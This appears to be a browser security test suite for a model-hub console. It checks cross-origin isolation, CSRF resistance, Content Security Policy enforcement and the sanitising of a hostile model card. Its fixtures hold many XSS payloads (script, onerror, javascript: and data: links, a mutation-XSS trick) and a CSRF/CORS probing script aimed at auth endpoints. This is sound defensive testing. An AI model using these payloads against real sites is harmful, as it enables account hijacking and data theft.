"""A page of somebody else, in the browser of somebody signed in: it reads nothing, and nothing is done.

Two strangers: one of another site (localhost, where the hub is 127.0.0.1), whose requests carry no cookie,
and one of the same site on another port, whose requests do carry it and are refused for their origin.
"""

import http.server
import json
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from tests.browser.conftest import WINDOW
from tests.browser.test_console import sign_in
from tests.support.hub import Hub as ModelSource
from tests.support.hub_process import ROOT, Hub, start_hub

pytestmark = [pytest.mark.browser, pytest.mark.alone, pytest.mark.slow, pytest.mark.timeout(300)]

PAGES = (
    "/", "/search", "/downloads", "/library", "/deployments", "/chat", "/jobs", "/account/keys",
    "/admin/users", "/api/docs/",
)  # fmt: skip

CARD = """---
license: mit
---
# A friendly model

Plain words stay.

<script>window.taken = 'script'</script>
<img src="x" onerror="window.taken = 'onerror'">
<svg onload="window.taken = 'svg'"><script>window.taken = 'svg script'</script></svg>
<iframe srcdoc="<script>parent.taken = 'iframe'</script>"></iframe>
<form action="STRANGER/form"><input name="password" autofocus onfocus="window.taken = 'focus'">
<button>Sign in</button></form>
<style>body { background: url(STRANGER/style) }</style>
<meta http-equiv="refresh" content="0; url=STRANGER/meta"><base href="STRANGER/">
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=window.taken='math'&gt;">

[one](javascript:window.taken='link') [two](JaVaScRiPt:window.taken='link2')
[three](data:text/html,<script>1</script>)
[four](vbscript:x) <javascript:window.taken='auto'> [five](&#106;avascript:window.taken='entity')
[six]( javascript:window.taken='space' ) [seven](java\tscript:window.taken='tab')
[eight](//STRANGER_HOST/x "a\\"onclick=1")

![picture](STRANGER/track.png) ![two](javascript:window.taken='img')
![three](data:image/svg+xml,<svg onload=alert(1)>)

```html
<script>window.taken = 'code'</script>
```

| a | b |
|---|---|
| <b onclick="window.taken='cell'">x</b> | [y](javascript:window.taken='cell2') |
"""

ATTACK = """async ([hub, port]) => {
  const got = {}
  const tries = [
    ['GET', '/api/v1/auth/me'], ['GET', '/api/v1/models'], ['GET', '/api/v1/downloads'], ['GET', '/readyz'],
    ['GET', '/'], ['GET', '/api/v1/openapi.json'], ['POST', '/api/v1/auth/refresh'],
    ['POST', '/api/v1/auth/logout'], ['POST', '/api/v1/auth/login', login],
    ['POST', '/api/v1/downloads', '{"ref":"org/card"}'],
    ['DELETE', '/api/v1/auth/sessions'], ['PATCH', '/api/v1/auth/me', '{"name":"taken"}'],
  ]
  const kinds = [
    {mode: 'cors', credentials: 'include', headers: {'Content-Type': 'application/json'}},
    {mode: 'cors', credentials: 'include', headers: {'Content-Type': 'text/plain'}},
    {mode: 'cors', credentials: 'omit'},
    {mode: 'no-cors', credentials: 'include'},
  ]
  for (const [method, path, body] of tries) for (const [number, kind] of kinds.entries()) {
    const name = `${method} ${path} ${number}`
    try {
      const answer = await fetch(hub + path, {method, ...kind, ...(body ? {body} : {})})
      got[name] = answer.type === 'opaque' ? 'opaque' : `read: ${await answer.text()}`
    } catch (error) { got[name] = 'refused' }
  }
  const load = (tag, attributes) => new Promise((done) => {
    const element = document.createElement(tag)
    element.onload = () => done('loaded')
    element.onerror = () => done('refused')
    Object.assign(element, attributes)
    document.body.append(element)
    setTimeout(() => done('silent'), 3000)
  })
  for (const path of ['/api/v1/downloads', '/api/v1/auth/logout', '/favicon.svg'])
    got[`img ${path}`] = await load('img', {src: hub + path})
  got['script /api/v1/openapi.json'] = await load('script', {src: hub + '/api/v1/openapi.json'})
  got['script /api/docs/start.js'] = await load('script', {src: hub + '/api/docs/start.js'})
  const frame = document.createElement('iframe')
  frame.src = hub + '/'
  document.body.append(frame)
  await new Promise((done) => { frame.onload = done; setTimeout(done, 3000) })
  try { got.frame = frame.contentDocument ? 'blank' : 'kept apart' } catch { got.frame = 'kept apart' }
  got.socket = await new Promise((done) => {
    const socket = new WebSocket(hub.replace('http', 'ws') + '/socket.io/?EIO=4&transport=websocket')
    socket.onopen = () => done('open')
    socket.onmessage = (event) => done(`read: ${event.data}`)
    socket.onerror = () => done('refused')
    socket.onclose = () => done('refused')
  })
  return got
}""".replace("login]", """JSON.stringify({email: 'admin@localhost', password: 'wrong wrong'})]""")

FORMS = """<!doctype html><title>A friendly page</title>
<form id="logout" method="post" action="HUB/api/v1/auth/logout" target="hidden"></form>
<form id="refresh" method="post" action="HUB/api/v1/auth/refresh" target="hidden"></form>
<form id="login" method="post" enctype="text/plain" action="HUB/api/v1/auth/login" target="hidden">
  <input name='{"email":"evil@example.org","password":"' value='wrong"}'></form>
<form id="download" method="post" enctype="text/plain" action="HUB/api/v1/downloads" target="hidden">
  <input name='{"ref":"org/card","revision":"' value='main"}'></form>
<iframe name="hidden"></iframe>
"""


class Stranger(http.server.ThreadingHTTPServer):
    """Serves one page under any name, and remembers what it was asked for."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Page)
        self.page, self.asked = "", []  # type: ignore[var-annotated]
        self.port = self.server_address[1]
        threading.Thread(target=self.serve_forever, args=(0.05,), daemon=True).start()


class _Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.asked.append(self.path)  # type: ignore[attr-defined]
        body = self.server.page.encode()  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def stranger() -> Iterator[Stranger]:
    with Stranger() as server:
        yield server
        server.shutdown()


@pytest.fixture(scope="module")
def hub(stranger: Stranger, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hub]:
    if not (ROOT / "console" / "dist" / "index.html").exists():
        pytest.skip("the console is not built; run `make console`")
    root = tmp_path_factory.mktemp("models")
    folder = root / "org" / "card"
    folder.mkdir(parents=True)
    (folder / "config.json").write_text(json.dumps({"architectures": ["LlamaForCausalLM"]}))
    (folder / "model.safetensors").write_bytes(b"\0" * 1000)
    address = f"http://127.0.0.1:{stranger.port}"
    card = CARD.replace("STRANGER_HOST", f"127.0.0.1:{stranger.port}").replace("STRANGER", address)
    (folder / "README.md").write_text(card)
    with ModelSource(root) as source:
        running = start_hub(tmp_path_factory.mktemp("foreign"), {"HF_ENDPOINT": source.url})
        yield running
        running.stop()


@pytest.fixture(scope="module")
def signed_in(browser: Browser, hub: Hub) -> Iterator[BrowserContext]:
    """A browser whose console is signed in."""
    context = browser.new_context(base_url=hub.url, viewport=WINDOW, locale="en-GB")
    context.set_default_timeout(30_000)
    sign_in(context.new_page(), hub)
    yield context
    context.close()


def still_signed_in(context: BrowserContext, hub: Hub) -> bool:
    """The console, loaded anew, gets in with its cookie."""
    page = context.pages[0]
    page.goto(f"{hub.url}/library")
    expect(page.get_by_role("heading", name="Library", level=1)).to_be_visible()
    return True


def happened(hub: Hub) -> list[tuple[str, str]]:
    """What the audit log knows of, newest last."""
    items = hub.get("/audit?limit=200")["items"]
    return [(item["action"], item["result"]) for item in reversed(items)]


@pytest.mark.parametrize("site", ["localhost", "127.0.0.1"])
def test_a_strangers_page_reads_nothing_and_does_nothing(
    signed_in: BrowserContext, hub: Hub, stranger: Stranger, site: str
) -> None:
    stranger.page = FORMS.replace("HUB", hub.url)
    cookie = {c["name"]: c["value"] for c in signed_in.cookies()}["mh_refresh"]
    before = happened(hub)
    page = signed_in.new_page()
    sent: list[tuple[str, str]] = []
    statuses: list[tuple[str, int]] = []

    def note(request: Any) -> None:
        if request.url.startswith(hub.url):
            sent.append((request.url, request.all_headers().get("cookie", "")))

    page.on("response", lambda answer: statuses.append((answer.request.method, answer.status)))
    page.on("requestfinished", note)
    page.on("requestfailed", note)
    page.goto(f"http://{site}:{stranger.port}/")
    got = page.evaluate(ATTACK, [hub.url, stranger.port])
    read = {name: value for name, value in got.items() if str(value).startswith(("read", "open", "blank"))}
    assert not read
    assert got["socket"] == "refused" and got["frame"] == "kept apart"
    assert all(value != "loaded" for name, value in got.items() if name.startswith(("img", "script"))), got
    for form in ("logout", "refresh", "login", "download"):
        # The answer is not shown to the page, and so not always to this test: the hub says below what it did.
        with page.expect_request(lambda request: request.method == "POST"):
            page.evaluate(f"document.getElementById('{form}').submit()")
        page.wait_for_timeout(500)
    page.close()
    assert len(sent) > 20
    carried = [url for url, header in sent if "mh_refresh" in header]
    # SameSite=Strict keeps the cookie from another site. Another port is the same site, yet another origin.
    assert bool(carried) is (site != "localhost"), carried
    changes = [status for method, status in statuses if method in ("POST", "PATCH", "DELETE")]
    assert len(changes) >= 4 and set(changes) <= {401, 403}, changes

    # Nothing was done: no download, no sign-in, no sign-out, and the session goes on with the cookie it had.
    assert hub.get("/downloads")["items"] == []
    assert {c["name"]: c["value"] for c in signed_in.cookies()}["mh_refresh"] == cookie
    new = happened(hub)[len(before) :]
    assert not [action for action, result in new if result == "done"], new
    assert hub.get("/users?limit=10")["items"][0]["name"] != "taken"
    assert still_signed_in(signed_in, hub)


def violations(page: Page) -> list[Any]:
    return list(page.evaluate("window.violations || []"))


def test_the_console_breaks_no_policy(signed_in: BrowserContext, hub: Hub) -> None:
    signed_in.add_init_script(
        "window.violations = []; document.addEventListener('securitypolicyviolation', (event) =>"
        " window.violations.push([event.effectiveDirective, event.blockedURI, event.sourceFile]))"
    )
    page = signed_in.pages[0]
    said: list[str] = []
    page.on(
        "console", lambda message: said.append(message.text) if message.type in ("error", "warning") else None
    )
    for path in PAGES:
        policy = page.goto(path).headers["content-security-policy"]  # type: ignore[union-attr]
        assert (
            "script-src 'self';" in policy and "'unsafe-inline'" not in policy.partition("script-src")[2][:20]
        )
        if path == "/api/docs/":
            expect(page.get_by_role("heading", name="ModelHub").first).to_be_visible()
        else:
            expect(page.get_by_role("main").first).to_be_visible()
        page.wait_for_load_state("networkidle" if path == "/api/docs/" else "load")
        assert violations(page) == [], path
    assert [text for text in said if "Content Security Policy" in text or "Permissions-Policy" in text] == []


def test_the_policy_stops_what_would_slip_in(signed_in: BrowserContext, hub: Hub, stranger: Stranger) -> None:
    page = signed_in.pages[0]
    stranger.asked.clear()
    page.evaluate(
        """(address) => {
          const script = document.createElement('script'); script.textContent = "window.taken = 'inline'"
          document.body.append(script)
          const far = document.createElement('script'); far.src = address + '/x.js'; document.body.append(far)
          const button = document.createElement('button')
          button.setAttribute('onclick', "window.taken = 'onclick'")
          document.body.append(button); button.click()
          const image = new Image(); image.src = address + '/x.png'
          fetch(address + '/fetch').catch(() => 0)
          navigator.sendBeacon(address + '/beacon', 'x')
          new WebSocket(address.replace('http', 'ws') + '/socket')
        }""",
        f"http://127.0.0.1:{stranger.port}",
    )
    page.wait_for_timeout(500)
    assert page.evaluate("window.taken") is None and stranger.asked == []


def test_a_hostile_card_is_only_text(signed_in: BrowserContext, hub: Hub, stranger: Stranger) -> None:
    stranger.asked.clear()
    page = signed_in.pages[0]
    problems: list[str] = []
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("dialog", lambda dialog: problems.append(dialog.message))
    page.goto("/search")
    page.get_by_role("searchbox", name="Search for models").fill("card")
    page.keyboard.press("Enter")
    page.get_by_role("button", name="org/card", exact=True).click()
    card = page.get_by_role("dialog").locator(".markdown")
    expect(card.get_by_text("Plain words stay.")).to_be_visible()
    bad = card.evaluate(
        """(root) => [...root.querySelectorAll('*')].flatMap((element) => [
          ...(/^(script|iframe|object|embed|svg|math|form|style|meta|base|link)$/i.test(element.tagName)
            && !element.closest('.code-block button') ? [element.outerHTML] : []),
          ...[...element.attributes]
            .filter((a) => /^on/i.test(a.name) || /^\\s*(javascript|vbscript|data):/i.test(a.value))
            .filter(() => !element.closest('button'))
            .map((a) => element.tagName + ' ' + a.name + '=' + a.value)])"""
    )
    assert bad == []
    for link in card.get_by_role("link").all():
        assert "noopener" in (link.get_attribute("rel") or "")
    for text in ("one", "two", "three", "five", "six"):
        # No address, no link; a click does nothing.
        card.get_by_text(text, exact=True).first.evaluate("element => element.click()")
    page.wait_for_timeout(300)
    assert page.evaluate("window.taken") is None and not problems
    assert stranger.asked == [] and page.url.startswith(hub.url)
